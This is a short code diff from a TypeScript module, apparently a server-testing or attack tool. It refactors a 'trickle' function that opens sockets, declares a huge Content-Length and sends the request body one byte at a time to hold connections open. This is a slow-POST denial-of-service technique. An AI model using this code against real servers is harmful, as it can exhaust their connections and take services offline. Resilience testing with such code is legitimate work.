@@ -10,7 +10,7 @@ export type Attack = (target: Target) => Promise<string>;
 const patienceMs = 60_000;
 const form = 'Content-Type: application/x-www-form-urlencoded';
 
-const trickle = (line: string, addresses: number, type = form): Attack => {
+const trickle = (line: string, addresses: number): Attack => {
   return async (target) => {
     let cut = 0;
     await keepOpen(
@@ -19,7 +19,7 @@ const trickle = (line: string, addresses: number, type = form): Attack => {
       (socket, at) => {
         socket.resume().once('close', () => (cut += 1));
         const length = 'Content-Length: 1000000';
-        socket.write(`${head(target, line, addressOf(at, addresses), type, length)}a`);
+        socket.write(`${head(target, line, addressOf(at, addresses), form, length)}a`);
       },
       (socket) => socket.write('a'),
       10_000,
